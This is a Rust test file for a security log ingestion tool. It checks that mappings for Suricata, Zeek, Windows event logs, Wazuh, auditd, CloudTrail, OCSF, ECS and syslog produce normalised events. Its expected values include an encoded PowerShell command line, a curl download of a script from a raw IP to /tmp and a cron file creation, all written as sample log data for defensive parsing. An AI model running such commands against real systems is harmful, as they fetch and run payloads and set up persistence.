//! Every mapping on real lines: what an event must say of each.

use serde_json::{Value, json};

use crate::stage::{command, data, piped, printed, words};

/// What a mapping makes of a file.
fn mapped(mapping: &str, file: &str) -> Vec<Value> {
    let state = tempfile::tempdir().expect("a temporary directory");
    let bytes = std::fs::read(data("logs").join(file)).expect("a sample");
    let output =
        piped(&mut command("nats://127.0.0.1:1", state.path(), "logs", &["--dry-run", mapping, "-"]), &bytes);
    assert_eq!(output.status.code(), Some(0), "{}", words(&output));
    printed(&output)
}

/// Whether everything that is expected is there.
#[track_caller]
fn has(event: &Value, expected: &Value) {
    for (pointer, value) in expected.as_object().expect("pointers with values") {
        assert_eq!(event.pointer(pointer), Some(value), "{pointer} of {event:#}");
    }
}

#[test]
fn suricata() {
    let made = mapped("suricata", "suricata.json");
    assert_eq!(made.len(), 2, "the counters are left out");
    has(
        &made[0],
        &json!({
            "/subject": "events.default.suricata", "/event/class": "alert", "/event/kind": "suricata.alert",
            "/event/severity": "high", "/event/title": "ET MALWARE Win32/Example CnC Checkin",
            "/event/network/src_ip": "192.0.2.53", "/event/network/protocol": "tcp",
            "/event/attack/techniques/0": "T1071", "/event/fields/domain": "cnc.example.net",
            "/event/fields/signature_id": 2019401,
        }),
    );
    has(
        &made[1],
        &json!({"/event/kind": "suricata.dns", "/event/severity": "info", "/event/entities/2/value": "cnc.example.net"}),
    );
}

#[test]
fn zeek() {
    let made = mapped("zeek", "zeek.json");
    has(
        &made[0],
        &json!({
            "/event/kind": "zeek.conn", "/event/occurred_at": "2020-06-05T14:39:59.305988Z",
            "/event/network/dst_port": 53, "/event/entities/0/role": "src_ip", "/event/fields/uid": "CMdzit1AMNsmfAIiQc",
            "/event/fields/src_ip": "192.168.4.76",
        }),
    );
    has(&made[1], &json!({"/event/kind": "zeek.dns", "/event/fields/domain": "testmyids.com"}));
    has(
        &made[2],
        &json!({
            "/event/kind": "zeek.notice", "/event/class": "alert", "/event/severity": "medium",
            "/event/occurred_at": "2026-05-08T12:00:00.000000Z",
        }),
    );
}

#[test]
fn windows_by_winlogbeat_and_by_nxlog() {
    let made = mapped("winlogbeat", "winlogbeat.json");
    has(
        &made[0],
        &json!({
            "/subject": "events.default.sysmon", "/event/kind": "process_start", "/event/host_id": "WS-07.example.test",
            "/event/occurred_at": "2026-05-08 12:00:00.012", "/event/user": "EXAMPLE\\alice",
            "/event/source_event_id": "WS-07.example.test/Microsoft-Windows-Sysmon/Operational/41923",
            "/event/fields/CommandLine": "powershell.exe -enc SQBFAFgA", "/event/fields/EventID": "1",
            "/event/fields/command_line": "powershell.exe -enc SQBFAFgA",
        }),
    );
    has(
        &made[1],
        &json!({
            "/subject": "events.default.windows", "/event/kind": "logon_failed", "/event/user": "administrator",
            "/event/network/src_ip": "203.0.113.44", "/event/fields/LogonType": "3",
        }),
    );
    let made = mapped("nxlog", "nxlog.json");
    has(
        &made[0],
        &json!({
            "/event/source": "sysmon", "/event/kind": "network_conn", "/event/network/dst_ip": "198.51.100.7",
            "/event/occurred_at": "2026-05-08 12:00:00.105", "/event/host_id": "WS-07.example.test",
        }),
    );
    has(
        &made[1],
        &json!({
            "/event/source": "windows", "/event/kind": "process_start", "/event/fields/image": "C:\\Windows\\System32\\whoami.exe",
            "/event/source_event_id": "DC-01.example.test/Security/99010",
        }),
    );
}

#[test]
fn wazuh() {
    let made = mapped("wazuh", "wazuh.json");
    has(
        &made[0],
        &json!({
            "/event/kind": "wazuh.syslog", "/event/severity": "low", "/event/host_id": "web01",
            "/event/occurred_at": "2026-05-08T12:00:00.123Z", "/event/attack/techniques/1": "T1021.004",
            "/event/network/src_ip": "203.0.113.9", "/event/tags/2": "authentication_failed",
        }),
    );
    has(&made[1], &json!({"/event/severity": "high", "/event/fields/path": "/etc/passwd"}));
}

#[test]
fn auditd() {
    let made = mapped("auditd", "auditd.log");
    assert_eq!(made.len(), 5, "the lines of an event are one record");
    has(
        &made[0],
        &json!({
            "/event/kind": "auditd.SYSCALL", "/event/occurred_at": "2013-03-28T14:36:03.243Z", "/event/fields/image": "/bin/cat",
            "/event/tags/0": "sshd_config", "/event/fields/serial": "24287", "/event/user": "1000",
            "/event/fields/command_line": "cat /etc/ssh/sshd_config", "/event/fields/types": ["SYSCALL", "PROCTITLE"],
        }),
    );
    has(
        &made[1],
        &json!({
            "/event/kind": "auth.login_failed", "/event/severity": "low", "/event/host_id": "web01", "/event/user": "root",
            "/event/network/src_ip": "203.0.113.9",
        }),
    );
    has(
        &made[2],
        &json!({
            "/event/kind": "process_start", "/event/occurred_at": "2026-05-08T12:00:01.123Z", "/event/user": "alice",
            "/event/fields/command_line": "curl -o /tmp/a b.sh http://192.0.2.66/x", "/event/fields/cwd": "/root",
            "/event/fields/argv/2": "/tmp/a b.sh", "/event/fields/image": "/usr/bin/curl", "/event/fields/a0": "55d0c2a1f2b0",
            "/event/fields/path": "/usr/bin/curl", "/event/fields/paths/1/name": "/lib64/ld-linux-x86-64.so.2",
        }),
    );
    has(
        &made[3],
        &json!({
            "/event/kind": "file_change", "/event/fields/path": "/etc/cron.d/x", "/event/fields/nametype": "CREATE",
            "/event/tags/0": "cron",
        }),
    );
    has(
        &made[4],
        &json!({
            "/event/kind": "network_conn", "/event/network/dst_ip": "198.51.100.7", "/event/network/dst_port": 443,
            "/event/fields/dst_ip": "198.51.100.7", "/event/fields/dst_port": 443, "/event/fields/image": "/usr/bin/curl",
            "/event/fields/saddr_fam": "inet", "/event/user": "alice",
        }),
    );
}

#[test]
fn cloudtrail() {
    let made = mapped("cloudtrail", "cloudtrail.json");
    assert_eq!(made.len(), 2, "a file is one document of many records");
    has(
        &made[0],
        &json!({
            "/event/kind": "cloudtrail.StopLogging", "/event/severity": "high", "/event/user": "Mary_Major",
            "/event/source_event_id": "22a4b2c1-8d0c-4e53-9b0a-6d2c2EXAMPLE", "/event/tags/0": "defense_evasion",
        }),
    );
    has(&made[1], &json!({"/event/kind": "auth.login_failed", "/event/network/src_ip": "192.0.2.76"}));
}

#[test]
fn ocsf_and_ecs() {
    let made = mapped("ocsf", "ocsf.json");
    has(
        &made[0],
        &json!({
            "/event/class": "finding", "/event/severity": "high", "/event/title": "Office starts a shell",
            "/event/kind": "ocsf.Detection Finding.Create", "/event/attack/techniques/0": "T1059.001",
            "/event/occurred_at": "2026-05-08T12:00:00.123Z", "/event/source_event_id": "finding-7f3a",
        }),
    );
    has(
        &made[1],
        &json!({"/event/host_id": "WS-07", "/event/network/dst_ip": "198.51.100.7", "/event/severity": "info"}),
    );
    let made = mapped("ecs", "ecs.json");
    has(
        &made[0],
        &json!({
            "/subject": "events.default.endpoint", "/event/class": "alert", "/event/severity": "medium",
            "/event/kind": "malware.file-quarantined", "/event/attack/tactics/0": "TA0002", "/event/host_id": "WS-07",
        }),
    );
    has(
        &made[1],
        &json!({
            "/event/kind": "network.connection", "/event/host_id": "fw1", "/event/network/src_ip": "192.0.2.53",
        }),
    );
}

#[test]
fn syslog_of_both_forms() {
    let made = mapped("syslog", "syslog.log");
    has(
        &made[0],
        &json!({
            "/event/kind": "syslog.sshd", "/event/host_id": "web01", "/event/severity": "critical",
            "/event/occurred_at": "2026-04-09T12:00:00Z", "/event/title": "Failed password",
        }),
    );
    has(
        &made[1],
        &json!({"/event/fields/structured/exampleSDID@32473/eventID": "1011", "/event/severity": "low"}),
    );
    // Nothing says when it happened, and so nothing is said.
    assert_eq!(made[2].pointer("/event/occurred_at"), None, "{}", made[2]);
}

#[test]
fn a_mapping_of_ones_own_needs_no_compiler_and_its_mistakes_are_named() {
    let mappings = tempfile::tempdir().expect("a temporary directory");
    let state = tempfile::tempdir().expect("a temporary directory");
    let path = mappings.path().join("door.yaml");
    let directory = mappings.path().to_str().expect("plain path").to_owned();
    let arguments = ["--dry-run", "--mappings", &directory, "door", "-"];
    let run = || {
        piped(
            &mut command("nats://127.0.0.1:1", state.path(), "logs", &arguments),
            b"{\"door\":\"D3\",\"at\":1778241600}\n",
        )
    };
    std::fs::write(&path, "about: doors\nevent:\n  source: door\n  kind: door.open\n  severty: low\n")
        .expect("written");
    let output = run();
    assert_eq!(output.status.code(), Some(3));
    assert!(
        words(&output).contains("door.yaml:5: an event has no `severty`: did you mean `severity`?"),
        "{}",
        words(&output)
    );
    let good = "about: doors\nevent:\n  source: door\n  kind: door.open\n  occurred_at: {value: \"{at}\", as: epoch}\n";
    std::fs::write(&path, good).expect("written");
    has(
        &printed(&run())[0],
        &json!({"/subject": "events.default.door", "/event/occurred_at": "2026-05-08T12:00:00Z"}),
    );
}
